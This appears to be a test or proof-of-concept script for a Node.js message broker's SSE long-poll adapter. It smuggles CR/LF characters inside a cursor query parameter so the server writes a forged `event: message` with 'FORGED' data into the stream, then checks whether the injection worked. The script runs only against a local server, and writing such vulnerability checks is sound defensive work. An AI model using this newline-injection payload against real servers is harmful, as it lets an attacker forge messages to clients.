// A composite cursor whose entry for an unlisted channel carries CR/LF is echoed in the stream's
// first `id:` line: the server then writes whatever SSE fields the URL holds.
import { createServer } from 'node:http';
import { Broker } from '../../dist/index.js';
import { longPoll } from '../../dist/adapters/node.js';

const broker = new Broker();
const server = createServer(longPoll(broker, { prefix: '/c' })).listen(0, '127.0.0.1');
await new Promise((r) => server.once('listening', r));
const { port } = server.address();
await broker.publish('a', 1);
// A real composite cursor for ?channels=a
const first = await broker.readMany(['a'], {});
const evil = `${first.cursor}~abc_def.x\nevent: message\ndata: {"id":"forged","channel":"a","data":"FORGED","publishedAt":"x"}\n`;
const url = `http://127.0.0.1:${port}/c?channels=a&cursor=${encodeURIComponent(evil)}`;
const controller = new AbortController();
const timer = setTimeout(() => controller.abort(), 1500);
let text = '';
try {
  const res = await fetch(url, { headers: { accept: 'text/event-stream' }, signal: controller.signal });
  console.log('status', res.status, res.headers.get('content-type'));
  const reader = res.body.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    text += Buffer.from(value).toString();
    if (text.length > 200) break;
  }
} catch {
  // the timeout cut the stream
}
clearTimeout(timer);
controller.abort();
console.log(JSON.stringify(text));
console.log(text.includes('FORGED') ? 'INJECTED' : 'no injection');
// single-channel via ?cursor with %0A
const one = await broker.read('a', {});
const res2 = await fetch(`http://127.0.0.1:${port}/c/a?cursor=${encodeURIComponent(one.cursor + '\n')}`, { headers: { accept: 'text/event-stream' } });
console.log('single channel trailing LF:', res2.status);
await res2.body?.cancel();
await broker.close();
server.closeAllConnections();
server.close();
